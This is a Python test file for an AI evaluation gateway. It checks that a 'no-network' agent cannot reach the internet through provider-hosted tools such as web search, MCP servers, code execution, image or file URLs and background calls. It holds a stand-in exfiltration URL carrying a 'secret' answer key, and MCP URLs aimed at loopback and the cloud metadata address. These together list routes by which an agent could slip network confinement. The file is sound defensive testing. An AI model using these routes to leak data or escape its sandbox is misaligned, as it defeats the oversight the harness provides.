"""A ``no-network`` agent asks its model provider to reach the internet for it (gateway).

Providers run some tools themselves: web search and fetch, MCP servers at a URL the request
names (which can carry data in its query), code interpreters, URL context; and a Responses
call with ``background: true`` is answered later, outside the call, its usage never seen.
Each such request shape, in every wire protocol the gateway serves, goes through a real
gateway to a real upstream on loopback (the provider's stand-in). Judged from the
upstream's own log (nothing but the one plain call per protocol that shows it was
reachable), the status and error shape the client got, ``model_calls.jsonl`` and the
gateway's ``network_refused`` events. The same attack through a whole trial is
tests/security/test_gateway_hosted_tools.py.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from support.standin import RecordingUpstream

from harness.gateway import Gateway, make_provider
from harness.models.catalog import ModelSpec
from sandbox.credentials import CredentialStore
from sandbox.network_policy import NetworkPolicy

CHAT, RESPONSES, MESSAGES = "/v1/chat/completions", "/v1/responses", "/v1/messages"
GENERATE = "/v1beta/models/g:generateContent"


@pytest.fixture
def upstream() -> Iterator[RecordingUpstream]:
    server = RecordingUpstream()
    yield server
    server.close()


@dataclass(frozen=True)
class Shape:
    """One request asking the provider to reach outside, and how the refusal is named."""

    name: str
    path: str
    body: dict[str, Any]
    tool: str | None  # the event's tool (None: background, no network event)


EXFIL = "https://collector.example.net/mcp?secret=the-answer-key"

OPENAI_SHAPES = [
    Shape("chat-web-search-options", CHAT, {"web_search_options": {}}, "web_search_options"),
    Shape("chat-unknown-tool", CHAT, {"tools": [{"type": "browser"}]}, "browser"),
    Shape(
        "responses-mcp",
        RESPONSES,
        {"tools": [{"type": "mcp", "server_label": "x", "server_url": EXFIL}]},
        "mcp",
    ),
    Shape(
        "responses-mcp-in-namespace",
        RESPONSES,
        {"tools": [{"type": "namespace", "name": "n", "tools": [{"type": "web_search"}]}]},
        "web_search",
    ),
    Shape("responses-web-search", RESPONSES, {"tools": [{"type": "web_search"}]}, "web_search"),
    Shape(
        "responses-web-search-preview",
        RESPONSES,
        {"tools": [{"type": "web_search_preview"}]},
        "web_search_preview",
    ),
    Shape(
        "responses-code-interpreter",
        RESPONSES,
        {"tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]},
        "code_interpreter",
    ),
    Shape("responses-file-search", RESPONSES, {"tools": [{"type": "file_search"}]}, "file_search"),
    Shape(
        "responses-input-image-url",
        RESPONSES,
        {
            "input": [
                {
                    "type": "message",
                    "role": "user",
                    "content": [{"type": "input_image", "image_url": EXFIL}],
                }
            ]
        },
        "input_image",
    ),
    Shape(
        "chat-image-url",
        CHAT,
        {
            "messages": [
                {"role": "user", "content": [{"type": "image_url", "image_url": {"url": EXFIL}}]}
            ]
        },
        "image_url",
    ),
    Shape("responses-background", RESPONSES, {"background": True}, None),
]
ANTHROPIC_SHAPES = [
    Shape(
        "messages-web-fetch",
        MESSAGES,
        {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
        "web_fetch_20250910",
    ),
    Shape(
        "messages-web-search",
        MESSAGES,
        {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
        "web_search_20250305",
    ),
    Shape(
        "messages-code-execution",
        MESSAGES,
        {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
        "code_execution_20250825",
    ),
    Shape(
        "messages-mcp-servers",
        MESSAGES,
        {"mcp_servers": [{"type": "url", "url": EXFIL, "name": "x"}]},
        "mcp_servers",
    ),
    Shape(
        "messages-url-image",
        MESSAGES,
        {
            "messages": [
                {
                    "role": "user",
                    "content": [{"type": "image", "source": {"type": "url", "url": EXFIL}}],
                }
            ]
        },
        "image",
    ),
]
GEMINI_SHAPES = [
    Shape("gemini-url-context", GENERATE, {"tools": [{"urlContext": {}}]}, "urlContext"),
    Shape("gemini-google-search", GENERATE, {"tools": [{"googleSearch": {}}]}, "googleSearch"),
    Shape(
        "gemini-search-retrieval",
        GENERATE,
        {"tools": [{"google_search_retrieval": {}}]},
        "google_search_retrieval",
    ),
    Shape("gemini-code-execution", GENERATE, {"tools": [{"codeExecution": {}}]}, "codeExecution"),
    Shape(
        "gemini-file-uri",
        GENERATE,
        {"contents": [{"role": "user", "parts": [{"fileData": {"fileUri": EXFIL}}]}]},
        "fileData",
    ),
]

#: provider -> (api of its spec, base path, its refused shapes, one plain call it must serve).
PROVIDERS: dict[str, tuple[str, str, list[Shape], tuple[str, dict[str, Any]]]] = {
    "openai": (
        "openai-responses",
        "/v1",
        OPENAI_SHAPES,
        (RESPONSES, {"tools": [{"type": "function", "name": "f", "parameters": {}}]}),
    ),
    "anthropic": (
        "anthropic-messages",
        "",
        ANTHROPIC_SHAPES,
        (MESSAGES, {"tools": [{"name": "Bash", "input_schema": {"type": "object"}}]}),
    ),
    "google": (
        "gemini",
        "",
        GEMINI_SHAPES,
        (GENERATE, {"tools": [{"functionDeclarations": [{"name": "f"}]}]}),
    ),
}


def _message(provider: str, body: dict[str, Any]) -> dict[str, Any]:
    """``body`` with the conversation its protocol needs."""
    if provider == "google":
        return {"contents": [{"role": "user", "parts": [{"text": "hi"}]}], **body}
    if provider == "anthropic":
        return {"max_tokens": 16, "messages": [{"role": "user", "content": "hi"}], **body}
    return {"input": "hi", "messages": [{"role": "user", "content": "hi"}], **body}


def _error_message(provider: str, answer: dict[str, Any]) -> str:
    """The message of a refusal in the provider's own error shape (asserting the shape)."""
    error = answer["error"]
    if provider == "google":
        assert error["code"] == 400 and error["status"] == "INVALID_ARGUMENT", answer
    elif provider == "anthropic":
        assert answer["type"] == "error" and error["type"] == "invalid_request_error", answer
    else:
        assert error["type"] == "invalid_request_error", answer
        assert error["code"] == "network_refused", answer
    return str(error["message"])


@pytest.mark.parametrize("provider", list(PROVIDERS))
def test_no_network_hosted_tools_never_reach_the_provider(
    provider: str, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    api, base, shapes, plain = PROVIDERS[provider]
    spec = ModelSpec(
        provider,
        "m",
        "m",
        api,  # type: ignore[arg-type]
        base_url=f"http://127.0.0.1:{upstream.port}{base}",
    )
    gateway = Gateway(spec, make_provider(spec, CredentialStore()))
    gateway.start()
    records = tmp_path / "model_calls.jsonl"
    try:
        access = gateway.open_trial("t1", "demo", records, network=NetworkPolicy("no-network"))
        with httpx.Client(
            transport=httpx.HTTPTransport(uds=str(access.socket_path)),
            base_url="http://127.0.0.1",
            headers={"authorization": f"Bearer {access.token}", "x-goog-api-key": access.token},
            timeout=15.0,
        ) as client:
            for shape in shapes:
                answer = client.post(shape.path, json=_message(provider, shape.body))
                assert answer.status_code == 400, (shape.name, answer.text)
                message = _error_message(provider, answer.json())
                assert (
                    ("background" in message) if shape.tool is None else ("no-network" in message)
                ), (shape.name, message)
            # The upstream is there: a plain call (a function tool) reaches it.
            path, body = plain
            assert client.post(path, json=_message(provider, body)).status_code == 200
        events = gateway.network_events("t1")
    finally:
        gateway.close()

    # Judged from the upstream's own log: only the plain call got there.
    seen = upstream.log()
    assert len(seen) == 1, json.dumps(seen)[:2000]
    assert "collector.example.net" not in json.dumps(seen)
    tools = [shape.tool for shape in shapes if shape.tool is not None]
    assert [e["tool"] for e in events] == tools, events
    assert all(
        e["type"] == "network_refused" and e["protocol"] == "model_tool" and e["phase"] == "agent"
        for e in events
    )
    at_a_url = [e for e in events if e["kind"] in ("mcp", "url_fetch")]
    assert at_a_url and all(e["host"] == "collector.example.net" for e in at_a_url)
    lines = [json.loads(line) for line in records.read_text().splitlines()]
    assert [line["status"] for line in lines] == [400] * len(shapes) + [200]
    assert all(line["outcome"] == "refused" for line in lines[:-1])


def test_a_public_phase_keeps_its_hosted_tools_but_never_a_private_mcp_server(
    upstream: RecordingUpstream, tmp_path: Path
) -> None:
    spec = ModelSpec(
        "openai", "m", "m", "openai-responses", base_url=f"http://127.0.0.1:{upstream.port}/v1"
    )
    gateway = Gateway(spec, make_provider(spec, CredentialStore()))
    gateway.start()
    try:
        access = gateway.open_trial(
            "t1", "demo", tmp_path / "calls.jsonl", network=NetworkPolicy("public")
        )
        with httpx.Client(
            transport=httpx.HTTPTransport(uds=str(access.socket_path)),
            base_url="http://127.0.0.1",
            headers={"authorization": f"Bearer {access.token}"},
            timeout=15.0,
        ) as client:
            search = {"input": "hi", "tools": [{"type": "web_search"}]}
            assert client.post(RESPONSES, json=search).status_code == 200
            for url in ("http://127.0.0.1:1/mcp", "http://169.254.169.254/", "http://localhost/"):
                tool = {"type": "mcp", "server_label": "x", "server_url": url}
                answer = client.post(RESPONSES, json={"input": "hi", "tools": [tool]})
                assert answer.status_code == 400, answer.text
            background = client.post(RESPONSES, json={"input": "hi", "background": True})
            assert background.status_code == 400
        events = gateway.network_events("t1")
    finally:
        gateway.close()
    assert [s["body"].get("tools") for s in upstream.log()] == [[{"type": "web_search"}]]
    assert [e["host"] for e in events] == ["127.0.0.1", "169.254.169.254", "localhost"]


def test_each_step_is_held_to_its_own_agent_policy(
    upstream: RecordingUpstream, tmp_path: Path
) -> None:
    spec = ModelSpec(
        "openai", "m", "m", "openai-responses", base_url=f"http://127.0.0.1:{upstream.port}/v1"
    )
    gateway = Gateway(spec, make_provider(spec, CredentialStore()))
    gateway.start()
    search = {"input": "hi", "tools": [{"type": "web_search"}]}
    try:
        access = gateway.open_trial(
            "t1", "demo", tmp_path / "calls.jsonl", network=NetworkPolicy("public")
        )
        with httpx.Client(
            transport=httpx.HTTPTransport(uds=str(access.socket_path)),
            base_url="http://127.0.0.1",
            headers={"authorization": f"Bearer {access.token}"},
            timeout=15.0,
        ) as client:
            statuses = [client.post(RESPONSES, json=search).status_code]
            gateway.set_network("t1", NetworkPolicy("no-network"), step="two")
            statuses.append(client.post(RESPONSES, json=search).status_code)
            gateway.set_network("t1", NetworkPolicy("public"), step="three")
            statuses.append(client.post(RESPONSES, json=search).status_code)
        events = gateway.network_events("t1")
        assert gateway.network_events("t1") == []  # drained: each event reaches the record once
    finally:
        gateway.close()
    assert statuses == [200, 400, 200]
    assert len(upstream.log()) == 2
    assert [(e["step"], e["policy"]) for e in events] == [("two", "no-network")]
